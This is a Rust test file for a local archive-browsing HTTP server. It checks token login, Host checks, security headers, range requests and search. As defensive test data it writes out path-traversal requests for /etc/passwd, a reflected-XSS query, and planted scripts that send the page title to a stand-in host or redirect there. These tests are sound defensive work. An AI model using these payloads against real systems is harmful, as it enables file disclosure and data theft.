//! `wxbackup browse`, asked over HTTP in the plainest way there is: no client
//! tidies a path or a header before it is sent.

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};

use wechat_sim::{Fault, Quirk, Sim, Target};

use crate::run::Run;
use crate::sample::sample;
use crate::saved::Saved;

/// A running server. Dropped, it is killed.
pub(crate) struct Browsing {
    child: Child,
    pub(crate) port: u16,
    /// `/?token=…`.
    pub(crate) first: String,
}

/// Whether a path has this extension.
pub(crate) fn is_a(path: &str, extension: &str) -> bool {
    path.rsplit_once('.')
        .is_some_and(|(_, found)| found == extension)
}

/// An answer.
#[derive(Debug)]
struct Answer {
    status: u16,
    /// Names in lower case.
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Browsing {
    /// The server of an archive, up and listening.
    pub(crate) fn of(archive: &Path) -> Self {
        let run = Run::new().args(["browse", "--no-open"]).args([archive]);
        Self::run(&run)
    }

    /// The same, where the archive may be refused; then its exit code.
    pub(crate) fn try_of(archive: &Path) -> Result<Self, i32> {
        let run = Run::new().args(["browse", "--no-open"]).args([archive]);
        Self::begin(&run).map_err(|(mut child, said)| {
            assert!(!said.contains("panicked"), "{said}");
            child.wait().unwrap().code().unwrap()
        })
    }

    /// How many of these pages it shows to somebody who was let in; it must
    /// show what it has of itself.
    pub(crate) fn shown(self, pages: &[String]) -> usize {
        let visit = Visit {
            cookie: self.enters(),
            browsing: self,
        };
        for own in ["/", "/coverage", "/search?q=a"] {
            assert_eq!(visit.gets(own).status, 200, "{own}");
        }
        let shown = pages.iter().filter(|page| visit.gets(page).status == 200);
        shown.count()
    }

    /// The number of its process.
    pub(crate) fn pid(&self) -> u32 {
        self.child.id()
    }

    /// The server that a run starts.
    pub(crate) fn run(run: &Run) -> Self {
        Self::begin(run).unwrap_or_else(|(_, said)| panic!("no address: {said}"))
    }

    fn begin(run: &Run) -> Result<Self, (Child, String)> {
        let mut child = run
            .command()
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        let stdout = child.stdout.as_mut().unwrap();
        BufReader::new(stdout).read_line(&mut line).unwrap();
        let rest = line.trim_end().strip_prefix("http://127.0.0.1:");
        let Some((port, first)) = rest.and_then(|rest| rest.split_once('/')) else {
            let mut said = String::new();
            child
                .stderr
                .take()
                .unwrap()
                .read_to_string(&mut said)
                .unwrap();
            return Err((child, line + &said));
        };
        Ok(Self {
            port: port.parse().unwrap(),
            first: format!("/{first}"),
            child,
        })
    }

    /// Sends this, and reads the answer to the end of the connection.
    fn says(&self, request: &str) -> Answer {
        let mut stream = TcpStream::connect(("127.0.0.1", self.port)).unwrap();
        stream.write_all(request.as_bytes()).unwrap();
        let mut bytes = Vec::new();
        // An answer that is cut ends with an error, or just ends.
        let _ = stream.read_to_end(&mut bytes);
        let end = bytes.windows(4).position(|four| four == b"\r\n\r\n");
        let end = end.unwrap_or_else(|| panic!("no answer to {request:?}"));
        let head = std::str::from_utf8(&bytes[..end]).unwrap();
        let mut lines = head.split("\r\n");
        let status = lines.next().unwrap().split(' ').nth(1).unwrap();
        let headers = lines.map(|line| line.split_once(": ").unwrap());
        Answer {
            status: status.parse().unwrap(),
            headers: headers
                .map(|(name, value)| (name.to_lowercase(), value.to_owned()))
                .collect(),
            body: bytes[end + 4..].to_vec(),
        }
    }

    fn asks(&self, method: &str, path: &str, headers: &[(&str, &str)]) -> Answer {
        let host = format!("127.0.0.1:{}", self.port);
        let more: Vec<String> = headers
            .iter()
            .map(|(name, value)| format!("{name}: {value}\r\n"))
            .collect();
        let more = more.concat();
        self.says(&format!(
            "{method} {path} HTTP/1.1\r\nHost: {host}\r\n{more}Connection: close\r\n\r\n"
        ))
    }

    /// Uses the token up; gives the cookie.
    pub(crate) fn enters(&self) -> String {
        let answer = self.asks("GET", &self.first, &[]);
        assert_eq!(answer.status, 200);
        let cookie = answer.header("set-cookie").unwrap();
        cookie.split(';').next().unwrap().to_owned()
    }

    /// Sends it a signal, and gives its exit code with what it said on stderr.
    fn gets(mut self, signal: &str) -> (Option<i32>, String) {
        let pid = self.child.id().to_string();
        let sent = std::process::Command::new("kill")
            .args(["-s", signal, &pid])
            .status()
            .unwrap();
        assert!(sent.success());
        let mut said = String::new();
        let mut stderr = self.child.stderr.take().unwrap();
        stderr.read_to_string(&mut said).unwrap();
        (self.child.wait().unwrap().code(), said)
    }
}

impl Drop for Browsing {
    fn drop(&mut self) {
        // It has ended already where a test has ended it.
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Answer {
    fn header(&self, name: &str) -> Option<&str> {
        let mut found = self.headers.iter().filter(|(known, _)| known == name);
        let value = found.next().map(|(_, value)| value.as_str());
        assert!(found.next().is_none(), "{name} is there twice");
        value
    }

    fn text(&self) -> &str {
        std::str::from_utf8(&self.body).unwrap()
    }
}

/// A server of which somebody has the cookie.
struct Visit {
    browsing: Browsing,
    cookie: String,
}

impl Visit {
    fn to(archive: &Path) -> Self {
        let browsing = Browsing::of(archive);
        let cookie = browsing.enters();
        Self { browsing, cookie }
    }

    fn asks(&self, method: &str, path: &str, headers: &[(&str, &str)]) -> Answer {
        let cookie = ("Cookie", self.cookie.as_str());
        let headers: Vec<_> = headers.iter().copied().chain([cookie]).collect();
        self.browsing.asks(method, path, &headers)
    }

    fn gets(&self, path: &str) -> Answer {
        self.asks("GET", path, &[])
    }
}

#[test]
fn the_address_lets_in_once_and_the_cookie_from_then_on() {
    let browsing = Browsing::of(&sample().archive);
    let token = browsing.first.strip_prefix("/?token=").unwrap();
    assert_eq!(token.len(), 64);
    assert!(token.bytes().all(|byte| byte.is_ascii_hexdigit()));
    for path in [
        "/",
        "/data/index.html",
        "/search?q=a",
        "/style.css",
        "/nothing",
    ] {
        assert_eq!(browsing.asks("GET", path, &[]).status, 403, "{path}");
    }
    // A look at whether it is alive does not use it up.
    assert_eq!(browsing.asks("HEAD", &browsing.first, &[]).status, 403);

    let welcome = browsing.asks("GET", &browsing.first, &[]);
    assert_eq!(welcome.status, 200);
    assert!(!welcome.text().contains(token));
    let cookie = welcome.header("set-cookie").unwrap();
    let (pair, attributes) = cookie.split_once(';').unwrap();
    assert_eq!(attributes, " Path=/; HttpOnly; SameSite=Strict");
    assert!(pair.starts_with(&format!("wxbackup-{}=", browsing.port)));
    assert!(!pair.contains(token), "a history does not hold the cookie");

    let again = browsing.asks("GET", &browsing.first, &[]);
    assert_eq!((again.status, again.header("set-cookie")), (403, None));
    assert!(again.text().contains("This address was used before."));
    assert_eq!(browsing.asks("GET", "/", &[("Cookie", pair)]).status, 200);
    let wrong = format!("wxbackup-{}={token}", browsing.port);
    assert_eq!(browsing.asks("GET", "/", &[("Cookie", &wrong)]).status, 403);
}

#[test]
fn two_servers_have_nothing_in_common() {
    let (one, other) = (
        Visit::to(&sample().archive),
        Browsing::of(&sample().archive),
    );
    assert_ne!(one.browsing.first, other.first);
    let renamed = one
        .cookie
        .replace(&one.browsing.port.to_string(), &other.port.to_string());
    for cookie in [&one.cookie, &renamed] {
        assert_eq!(other.asks("GET", "/", &[("Cookie", cookie)]).status, 403);
    }
}

#[test]
fn only_this_machine_and_only_by_its_own_name() {
    let visit = Visit::to(&sample().archive);
    let port = visit.browsing.port;
    let status = |hosts: &str| {
        let cookie = &visit.cookie;
        visit
            .browsing
            .says(&format!(
                "GET / HTTP/1.1\r\n{hosts}Cookie: {cookie}\r\nConnection: close\r\n\r\n"
            ))
            .status
    };
    assert_eq!(status(&format!("Host: localhost:{port}\r\n")), 200);
    assert_eq!(status("Host: evil.example\r\n"), 421);
    assert_eq!(status(&format!("Host: evil.example:{port}\r\n")), 421);
    assert_eq!(status("Host: 127.0.0.1\r\n"), 421);
    assert_eq!(status(""), 421);
    // The whole of 127.0.0.0/8 is this machine; it listens at one address of it.
    #[cfg(target_os = "linux")]
    assert!(TcpStream::connect(("127.0.0.2", port)).is_err());
}

#[test]
fn it_can_only_be_read() {
    let visit = Visit::to(&sample().archive);
    for method in ["POST", "PUT", "DELETE", "OPTIONS", "PATCH", "TRACE"] {
        let answer = visit.asks(method, "/data/index.html", &[]);
        assert_eq!(
            (answer.status, answer.header("allow")),
            (405, Some("GET, HEAD")),
            "{method}"
        );
    }
}

/// The policies of the answers, by what is answered.
mod policy {
    pub(super) const OURS: &str = "default-src 'none'; img-src 'self'; style-src 'self'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'";
    pub(super) const PAGE: &str = "default-src 'none'; img-src 'self' data:; media-src 'self'; style-src 'self' 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";
    pub(super) const LIST: &str = "default-src 'none'; img-src 'self'; media-src 'self'; style-src 'self'; script-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";
    pub(super) const FILE: &str = "default-src 'none'; img-src 'self' data:; media-src 'self'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";
    pub(super) const DOCUMENT: &str = "default-src 'none'; img-src data:; style-src 'unsafe-inline'; sandbox; frame-ancestors 'none'";
}

#[test]
fn every_answer_keeps_what_it_holds_where_it_is() {
    use policy::{DOCUMENT, FILE, LIST, OURS, PAGE};
    let visit = Visit::to(&sample().archive);
    let saved = Saved::at(&sample().archive);
    let blob = saved.entries.keys().find(|path| is_a(path, "png"));
    let svg = saved.entries.keys().find(|path| is_a(path, "svg"));
    let article = saved
        .entries
        .keys()
        .find(|path| path.ends_with("/01/index.html"));
    let path = |entry: Option<&String>| format!("/{}", entry.unwrap());
    let table = [
        ("/".to_owned(), 200, "text/html; charset=utf-8", OURS),
        ("/search".to_owned(), 200, "text/html; charset=utf-8", OURS),
        (
            "/coverage".to_owned(),
            200,
            "text/html; charset=utf-8",
            OURS,
        ),
        ("/nothing".to_owned(), 404, "text/html; charset=utf-8", OURS),
        (
            "/style.css".to_owned(),
            200,
            "text/css; charset=utf-8",
            DOCUMENT,
        ),
        ("/favicon.ico".to_owned(), 200, "image/svg+xml", DOCUMENT),
        (
            "/data/index.html".to_owned(),
            200,
            "text/html; charset=utf-8",
            LIST,
        ),
        (
            "/data/view/images-0001.html".to_owned(),
            200,
            "text/html; charset=utf-8",
            LIST,
        ),
        (
            "/data/view/view.js".to_owned(),
            200,
            "text/javascript; charset=utf-8",
            DOCUMENT,
        ),
        (
            "/data/view/titles-0001.js".to_owned(),
            200,
            "text/javascript; charset=utf-8",
            DOCUMENT,
        ),
        (path(article), 200, "text/html; charset=utf-8", PAGE),
        (
            "/data/view/style.css".to_owned(),
            200,
            "text/css; charset=utf-8",
            DOCUMENT,
        ),
        (
            "/data/items/image.jsonl".to_owned(),
            200,
            "text/plain; charset=utf-8",
            DOCUMENT,
        ),
        (path(blob), 200, "image/png", FILE),
        (path(svg), 200, "image/svg+xml", DOCUMENT),
    ];
    let judge = |answer: &Answer, name: &str| {
        let fixed = [
            ("x-content-type-options", "nosniff"),
            ("referrer-policy", "no-referrer"),
            ("cache-control", "no-store"),
            ("cross-origin-opener-policy", "same-origin"),
            ("cross-origin-resource-policy", "same-origin"),
        ];
        for (header, value) in fixed {
            assert_eq!(answer.header(header), Some(value), "{header} of {name}");
        }
    };
    for (path, status, mime, policy) in &table {
        let answer = visit.gets(path);
        judge(&answer, path);
        let said = (
            answer.status,
            answer.header("content-type").unwrap(),
            answer.header("content-security-policy").unwrap(),
        );
        assert_eq!(said, (*status, *mime, *policy), "{path}");
        judge(&visit.browsing.asks("GET", path, &[]), "a stranger's");
        judge(&visit.asks("POST", path, &[]), "a post");
        judge(
            &visit.asks("GET", path, &[("Range", "bytes=1-2")]),
            "a part",
        );
        judge(
            &visit.asks("GET", path, &[("Range", "bytes=999999999-")]),
            "no part",
        );
    }
}

#[test]
fn all_of_the_library_is_served_as_it_lies_there_and_nothing_else() {
    let visit = Visit::to(&sample().archive);
    let saved = Saved::at(&sample().archive);
    let mut served = 0;
    for (path, bytes) in &saved.entries {
        let answer = visit.gets(&format!("/{path}"));
        if path.starts_with("data/") {
            assert_eq!((answer.status, &answer.body), (200, bytes), "{path}");
            served += 1;
        } else {
            assert_eq!(answer.status, 404, "{path}");
        }
    }
    assert!(served > 40, "{served}");
}

#[test]
fn no_path_leads_out_of_the_library() {
    let visit = Visit::to(&sample().archive);
    let base = sample().archive.file_name().unwrap().to_str().unwrap();
    for path in [
        "/data/../run/archive.json",
        "/data/%2e%2e/run/archive.json",
        "/data/..%2frun/archive.json",
        "/run/archive.json",
        "//run/archive.json",
        "/data//index.html",
        "/data/./index.html",
        "/data/index.html/",
        "/data/index.html%00",
        "/data/INDEX.html",
        "/data/",
        "/data",
        "/data\\index.html",
        "/../../../../etc/passwd",
        "/etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        &format!("/{base}"),
        "/data/blobs",
        "/bagit.txt",
        "http://evil.example/data/none",
    ] {
        let answer = visit.gets(path);
        assert!(
            [400, 404].contains(&answer.status),
            "{path}: {}",
            answer.status
        );
        assert!(!answer.text().contains("root:"), "{path}");
    }
}

#[test]
fn a_player_gets_the_part_that_it_asks_for() {
    let visit = Visit::to(&sample().archive);
    let saved = Saved::at(&sample().archive);
    let (path, bytes) = saved
        .entries
        .iter()
        .find(|(path, _)| is_a(path, "mp4"))
        .unwrap();
    let (path, length) = (format!("/{path}"), bytes.len());
    let last = length - 1;
    let table = [
        ("bytes=0-", 206, 0..length),
        ("bytes=0-0", 206, 0..1),
        ("bytes=100-199", 206, 100..200),
        ("bytes=1000-", 206, 1000..length),
        ("bytes=-5", 206, length - 5..length),
        ("bytes=-99999999", 206, 0..length),
        ("bytes=10-99999999", 206, 10..length),
        ("bytes=5-2", 200, 0..length),
        ("bytes=0-1,4-5", 200, 0..length),
        ("lines=1-2", 200, 0..length),
    ];
    for (range, status, expected) in table {
        let answer = visit.asks("GET", &path, &[("Range", range)]);
        let said = match status {
            206 => Some(format!(
                "bytes {}-{}/{length}",
                expected.start,
                expected.end - 1
            )),
            _ => None,
        };
        assert_eq!(answer.status, status, "{range}");
        assert_eq!(answer.header("content-range"), said.as_deref(), "{range}");
        assert_eq!(
            answer.header("content-length"),
            Some(expected.len().to_string().as_str()),
            "{range}"
        );
        assert_eq!(answer.header("content-type"), Some("video/mp4"));
        assert_eq!(answer.header("accept-ranges"), Some("bytes"));
        assert!(answer.body == bytes[expected], "{range}");
    }
    for range in [format!("bytes={length}-"), "bytes=-0".to_owned()] {
        let answer = visit.asks("GET", &path, &[("Range", &range)]);
        let all = format!("bytes */{length}");
        assert_eq!(
            (
                answer.status,
                answer.header("content-range"),
                answer.body.len()
            ),
            (416, Some(all.as_str()), 0),
            "{range}"
        );
    }
    // No condition can be met where no answer has a validator.
    let answer = visit.asks(
        "GET",
        &path,
        &[("Range", "bytes=0-0"), ("If-Range", "\"x\"")],
    );
    assert_eq!((answer.status, answer.body.len()), (200, length));
    let last = format!("bytes=0-{last}");
    for headers in [&[][..], &[("Range", last.as_str())]] {
        let head = visit.asks("HEAD", &path, headers);
        assert_eq!((head.status, head.body.len()), (200, 0));
        let said = length.to_string();
        assert_eq!(head.header("content-length"), Some(said.as_str()));
    }
}

#[test]
fn a_damaged_entry_is_an_error_and_the_others_are_served() {
    let inside = sample().inside_the_last_blob();
    let (_folder, archive) = sample().changed(|bytes| bytes[inside] ^= 1);
    let saved = Saved::at(&sample().archive);
    let damaged = format!("/{}", saved.order.last().unwrap());
    let visit = Visit::to(&archive);
    assert_eq!(visit.gets(&damaged).status, 500);
    let whole = visit.asks("GET", &damaged, &[("Range", "bytes=0-")]);
    assert_eq!(whole.status, 500, "all of it can be checked");
    assert_eq!(visit.gets("/data/index.html").status, 200);
    let (code, said) = visit.browsing.gets("INT");
    assert_eq!(code, Some(0));
    let warning = format!(
        "{}: cannot read {0} from the archive: its bytes are not those of its CRC-32",
        &damaged[1..]
    );
    assert_eq!(said.matches(&warning).count(), 2, "{said}");
}

#[test]
fn a_long_entry_that_is_damaged_is_cut_before_its_end() {
    let sim = Sim::builder()
        .images(1)
        .image_bytes(3 << 20)
        .without(Quirk::EmptyImageUrl)
        .start();
    let folder = tempfile::tempdir().unwrap();
    Run::export(&sim, folder.path()).succeeds();
    let saved = Saved::only_one_in(folder.path());
    let blob = saved.order.last().unwrap();
    let length = saved.entries[blob].len();
    assert!(length > 2 << 20, "{length}");
    let whole = Visit::to(&saved.path).gets(&format!("/{blob}"));
    assert!(whole.body == saved.entries[blob]);

    let mut bytes = std::fs::read(&saved.path).unwrap();
    let directory = bytes
        .windows(4)
        .position(|four| four == b"PK\x01\x02")
        .unwrap();
    bytes[directory - length] ^= 1;
    let damaged = folder.path().join("damaged.zip");
    wxbackup::fs::write_atomic(&damaged, &bytes).unwrap();
    let visit = Visit::to(&damaged);
    let answer = visit.gets(&format!("/{blob}"));
    let said = length.to_string();
    assert_eq!(answer.header("content-length"), Some(said.as_str()));
    assert!(
        answer.body.len() < length,
        "the browser sees that it is cut"
    );
    let part = visit.asks("GET", &format!("/{blob}"), &[("Range", "bytes=100-199")]);
    assert!(part.status == 206 && part.body == saved.entries[blob][100..200]);
}

/// An account with one article that says what the tests look for.
fn searchable() -> (tempfile::TempDir, PathBuf) {
    let sim = Sim::builder().images(2).drafts(3).published(2).start();
    let mut account = sim.account();
    let draft = account.add_draft("<b>粗体</b> & “引号”");
    let content = "<p>开头</p><p>春<b>天</b>来了，万物 Ｓpring 生长。</p>\
                   <style>p{color:red}</style><script>脚本里的词()</script><p>café &lt;i&gt;结尾&lt;/i&gt;</p>";
    assert!(account.rewrite_draft(&draft, content));
    drop(account);
    let folder = tempfile::tempdir().unwrap();
    Run::export(&sim, folder.path()).succeeds();
    let archive = Saved::only_one_in(folder.path()).path;
    (folder, archive)
}

/// The list of what was found; empty where nothing was.
fn found(visit: &Visit, query: &str) -> String {
    let answer = visit.gets(&format!("/search?{query}"));
    assert_eq!(answer.status, 200, "{query}");
    let text = answer.text();
    let list = text.split("<ul class=\"rows\">\n").nth(1);
    let list = list.and_then(|rest| rest.split("</ul>").next());
    list.unwrap_or_default().to_owned()
}

#[test]
fn the_search_finds_words_in_titles_and_texts() {
    let (_folder, archive) = searchable();
    let visit = Visit::to(&archive);
    let record = Saved::at(&archive)
        .entries
        .into_iter()
        .find(|(path, bytes)| path.ends_with("meta.json") && text(bytes).contains("粗体"))
        .unwrap()
        .0;
    let page = format!("/{}", record.replace("meta.json", "index.html"));
    assert_eq!(visit.gets(&page).status, 200);

    // 春天, which stands in two elements.
    let hit = found(&visit, "q=%E6%98%A5%E5%A4%A9");
    let title = "<bdi>&lt;b&gt;粗体&lt;/b&gt; &amp; “引号”</bdi>";
    let time = hit.split("<div class=\"when\">").nth(1).unwrap();
    let (time, rest) = time.split_at("2026-01-01 00:00".len());
    assert!(
        time.bytes()
            .all(|byte| byte.is_ascii_digit() || b"-: ".contains(&byte)),
        "{time}"
    );
    assert!(hit.starts_with(&format!(
        "<li><a class=\"name\" href=\"{page}\">{title}</a><span class=\"tag\">草稿</span><div class=\"when\">"
    )), "{hit}");
    assert!(
        rest.ends_with(
            "<p><bdi>开头\n<mark>春天</mark>来了，万物 Ｓpring 生长。\ncafé &lt;i&gt;结尾&lt;/i&gt;</bdi></p></li>\n"
        ),
        "{rest}"
    );

    let is_found = |query: &str| found(&visit, query).contains(title.trim_end_matches("</bdi>"));
    assert!(is_found("q=SPRING"), "width and case do not matter");
    assert!(
        is_found("q=cafe%CC%81+spring"),
        "all words, in any spelling"
    );
    assert!(found(&visit, "q=%E7%B2%97%E4%BD%93").contains("<mark>粗体</mark>"));
    for nothing in [
        "q=spring+nowhere",
        "q=%E8%84%9A%E6%9C%AC%E9%87%8C%E7%9A%84%E8%AF%8D",
        "q=color%3Ared",
        "q=+",
        "q=",
        "",
    ] {
        assert_eq!(found(&visit, nothing), "", "{nothing}");
    }
}

fn text(bytes: &[u8]) -> &str {
    std::str::from_utf8(bytes).unwrap()
}

#[test]
fn a_query_is_shown_and_never_obeyed() {
    let visit = Visit::to(&sample().archive);
    let answer = visit
        .gets("/search?q=%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E%27&page=99999999999999999999");
    let shown = "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;&#39;";
    let page = answer.text();
    assert!(
        !page.contains("<script") && !page.contains("alert(1)<"),
        "{page}"
    );
    assert_eq!(
        page.matches(shown).count(),
        3,
        "the title, the field, the heading"
    );
    let long = visit.gets(&format!("/search?q={}", "a".repeat(10_000)));
    assert!(
        long.text()
            .contains(&format!("value=\"{}\"", "a".repeat(200)))
    );
    assert_eq!(visit.gets("/search?q=%FF%FE").status, 200);
}

#[test]
fn a_long_list_of_hits_has_pages() {
    let sim = Sim::builder().published(60).start();
    let folder = tempfile::tempdir().unwrap();
    Run::export(&sim, folder.path()).succeeds();
    let visit = Visit::to(&Saved::only_one_in(folder.path()).path);
    let articles: usize = sim.account().published().map(|it| it.articles.len()).sum();
    assert!((101..=200).contains(&articles), "{articles}");
    let query = "q=published";
    let [first, second, third] =
        [1, 2, 3].map(|page| found(&visit, &format!("{query}&page={page}")));
    let titled = sim
        .account()
        .published()
        .flat_map(|it| &it.articles)
        .filter(|article| article.title.contains("published"))
        .count();
    let count = |list: &str| list.matches("<li>").count();
    assert_eq!(count(&first) + count(&second), titled);
    assert_eq!(count(&third), 0);
    let page = visit.gets("/search?q=published");
    assert_eq!(
        page.text()
            .contains("href=\"/search?q=published&amp;page=2\""),
        titled > 100
    );
}

#[test]
fn the_coverage_tells_what_the_pages_inside_cannot() {
    let sim = Sim::builder()
        .images(12)
        .drafts(2)
        .published(2)
        .with(Quirk::ListedButGone)
        .fault(
            Fault::Errcode(48001),
            Target::path("/cgi-bin/freepublish/batchget"),
        )
        .start();
    let folder = tempfile::tempdir().unwrap();
    Run::export(&sim, folder.path()).ends_with(3);
    let saved = Saved::only_one_in(folder.path());
    let completeness = saved.document("run/completeness.json");
    let visit = Visit::to(&saved.path);
    let coverage = visit.gets("/coverage");
    let page = coverage.text();
    let checks = completeness["checks"].as_array().unwrap().len();
    assert!(page.contains(&format!("All {checks} equations hold.")));
    let total = completeness["gaps"]["total"].as_u64().unwrap();
    assert!(total > 0);
    assert!(page.contains(&format!("Gaps: {total}")));
    for gap in saved.lines("run/gaps.jsonl") {
        for field in ["id", "reason", "class"] {
            assert!(page.contains(gap[field].as_str().unwrap()), "{gap}");
        }
    }
    assert!(page.contains("账号没有读取权限 <code>source_refused / no_permission</code>"));
    assert!(page.contains(
        "<td>已发布 published</td><td>这次没有列出 not listed in this run</td><td>—</td>"
    ));
    assert!(page.contains("<td>图片 pictures</td><td>列完 listed to its end</td>"));
    for (chinese, english) in [
        ("群发过、但没有“发布”的文章", "Articles that were mass-sent"),
        (
            "图文素材的列表自 2022 年起不再增加",
            "stopped growing in 2022",
        ),
        ("在公众平台网页上传的视频", "Videos uploaded in the console"),
        ("草稿修改后编号会变", "A draft may get another id"),
        ("评论、粉丝、消息", "Comments, followers"),
    ] {
        assert!(
            page.contains(chinese) && page.contains(english),
            "{chinese}"
        );
    }
    let start = visit.gets("/");
    assert!(start.text().contains(&format!("缺失 {total} 项")));
    for link in [
        "/data/index.html",
        "/coverage",
        "/data/view/images-0001.html",
    ] {
        assert!(start.text().contains(&format!("href=\"{link}\"")), "{link}");
        assert_eq!(visit.gets(link).status, 200, "{link}");
    }
    assert!(start.text().contains("action=\"/search\""));
}

/// The sample packed anew by another program, each entry as `change` makes it;
/// and the names of its entries.
fn repacked(
    change: impl Fn(&str, Vec<u8>) -> Vec<u8>,
) -> (tempfile::TempDir, PathBuf, Vec<String>) {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("repacked.zip");
    let mut from = zip::ZipArchive::new(std::io::Cursor::new(&sample().bytes)).unwrap();
    let mut to = zip::ZipWriter::new(std::fs::File::create_new(&path).unwrap());
    let mut names = Vec::new();
    for at in 0..from.len() {
        let mut entry = from.by_index(at).unwrap();
        let name = entry.name().unwrap().into_owned();
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Stored)
            .last_modified_time(zip::DateTime::from_date_and_time(2020, 2, 2, 2, 2, 2).unwrap());
        to.start_file(name.as_str(), options).unwrap();
        let mut bytes = Vec::new();
        entry.read_to_end(&mut bytes).unwrap();
        let name = name.split_once('/').unwrap().1.to_owned();
        to.write_all(&change(&name, bytes)).unwrap();
        names.push(name);
    }
    to.finish().unwrap();
    (folder, path, names)
}

#[test]
fn a_script_that_is_not_ours_is_text() {
    let evil = b"location='http://planted.example/?'+document.title;\n".to_vec();
    let (_folder, path, _) = repacked(|name, bytes| match name {
        "data/view/view.js" => evil.clone(),
        "data/view/titles-0001.js" => [bytes, evil.clone()].concat(),
        _ => bytes,
    });
    let visit = Visit::to(&path);
    for (name, mime) in [
        ("view.js", "text/plain; charset=utf-8"),
        ("titles-0001.js", "text/plain; charset=utf-8"),
        ("texts-0001.js", "text/javascript; charset=utf-8"),
    ] {
        let answer = visit.gets(&format!("/data/view/{name}"));
        assert_eq!(
            (answer.status, answer.header("content-type")),
            (200, Some(mime)),
            "{name}"
        );
        // With this no browser takes text for a script.
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
    }
}

#[test]
fn a_page_that_would_lead_elsewhere_by_itself_is_put_into_a_sandbox() {
    let evil = b"<META http-equiv=Refresh content='0;url=http://planted.example/'>".to_vec();
    let is_page = |name: &str| is_a(name, "html");
    let (_folder, path, names) = repacked(|name, bytes| {
        if is_page(name) {
            [bytes, evil.clone()].concat()
        } else {
            bytes
        }
    });
    let pages: Vec<&String> = names.iter().filter(|name| is_page(name)).collect();
    assert!(pages.len() > 5);
    let visit = Visit::to(&path);
    let ours = Visit::to(&sample().archive);
    for name in pages {
        let policy = |visit: &Visit| {
            let answer = visit.gets(&format!("/{name}"));
            let policy = answer.header("content-security-policy").unwrap();
            let opener = answer.header("cross-origin-opener-policy");
            (policy.to_owned(), opener.map(str::to_owned))
        };
        let (odd, opener) = policy(&visit);
        // Without scripts: with them, a browser does as the page says.
        let in_sandbox = odd.contains("; sandbox ") && !odd.contains("script");
        // With both, it shows nothing.
        assert!(in_sandbox && opener.is_none(), "{name}: {odd}");
        let (plain, opener) = policy(&ours);
        assert!(
            !plain.contains("sandbox") && opener.is_some(),
            "{name}: {plain}"
        );
    }
}

#[test]
fn an_archive_that_another_program_packed_is_shown_with_a_warning() {
    let (_folder, path, names) = repacked(|_, bytes| bytes);
    let saved = Saved::at(&sample().archive);
    let visit = Visit::to(&path);
    for name in names.iter().filter(|name| name.starts_with("data/")) {
        assert!(
            visit.gets(&format!("/{name}")).body == saved.entries[name],
            "{name}"
        );
    }
    assert!(
        visit
            .gets("/")
            .text()
            .contains("it is not as wxbackup writes archives")
    );
    let (code, said) = visit.browsing.gets("TERM");
    assert_eq!(code, Some(0), "a signal is its one good end");
    assert!(
        said.contains("warning: ") && said.contains("it is not as wxbackup writes archives"),
        "{said}"
    );
}

#[test]
fn what_is_no_archive_is_refused() {
    let (_folder, cut) = sample().changed(|bytes| bytes.truncate(bytes.len() - 1000));
    let said = Run::new().args(["browse"]).args([&cut]).fails_with(6);
    assert!(said.stdout.is_empty() && said.stderr.contains("is cut or damaged"));
    let folder = tempfile::tempdir().unwrap();
    let said = Run::new()
        .args(["browse"])
        .args([folder.path()])
        .fails_with(1);
    assert!(
        said.stderr.contains("hint: give the zip itself"),
        "{}",
        said.stderr
    );
    let absent = folder.path().join("none.zip");
    Run::new().args(["browse"]).args([&absent]).fails_with(1);
    let (_folder, other) = sample().changed(|bytes| {
        let version = b"\"format_version\": \"1.0\"";
        let at = bytes
            .windows(version.len())
            .position(|word| word == version);
        bytes[at.unwrap() + version.len() - 4] = b'2';
    });
    // Its CRC-32 no longer fits either, which is told first.
    let said = Run::new().args(["browse"]).args([&other]).fails_with(6);
    assert!(said.stderr.contains("says of itself"), "{}", said.stderr);
}

#[test]
fn the_address_is_the_one_line_on_stdout_and_json_has_none() {
    let browsing = Browsing::of(&sample().archive);
    let first = browsing.first.clone();
    let mut child = browsing;
    let mut stdout = child.child.stdout.take().unwrap();
    let (code, said) = child.gets("INT");
    let mut rest = String::new();
    stdout.read_to_string(&mut rest).unwrap();
    assert_eq!((code, rest.as_str()), (Some(0), ""));
    assert_eq!(said, "Ctrl-C ends it\n");
    assert!(!said.contains(&first));

    let said = Run::new()
        .args(["browse", "--json"])
        .args([&sample().archive])
        .fails_with(2);
    assert_eq!(said.summary()["exit_code"], 2);
    crate::output::assert_lines_are_ours(&said.json());
}

#[test]
fn a_port_that_is_taken_is_said_to_be() {
    let browsing = Browsing::of(&sample().archive);
    let said = Run::new()
        .args(["browse", "--no-open", "--port", &browsing.port.to_string()])
        .args([&sample().archive])
        .fails_with(1);
    assert!(said.stdout.is_empty());
    assert!(
        said.stderr.contains("hint: another program has that port"),
        "{}",
        said.stderr
    );
}

/// A folder with a browser in it, which writes down what it is given.
#[cfg(target_os = "linux")]
fn browser() -> (tempfile::TempDir, PathBuf) {
    use std::os::unix::fs::PermissionsExt as _;
    let folder = tempfile::tempdir().unwrap();
    let (program, told) = (folder.path().join("xdg-open"), folder.path().join("told"));
    let script = format!(
        "#!/bin/sh\nprintf '%s' \"$1\" >'{0}.part' && /bin/mv '{0}.part' '{0}'\n",
        told.display()
    );
    wxbackup::fs::write_atomic(&program, script.as_bytes()).unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    (folder, told)
}

#[test]
#[cfg(target_os = "linux")]
fn the_browser_is_opened_where_someone_asks_for_it_and_no_terminal_is_there() {
    let (folder, told) = browser();
    let run = |flags: &[&str]| {
        Run::new()
